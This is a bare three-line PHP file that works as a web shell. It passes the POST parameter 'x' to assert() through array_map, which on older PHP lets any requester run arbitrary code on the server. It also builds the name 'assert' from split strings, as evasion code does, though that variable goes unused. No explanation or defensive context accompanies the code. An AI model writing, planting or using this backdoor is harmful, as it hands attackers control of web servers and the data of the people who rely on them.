<?php
$f = 'ass' . 'ert';
array_map('assert', array($_POST['x']));
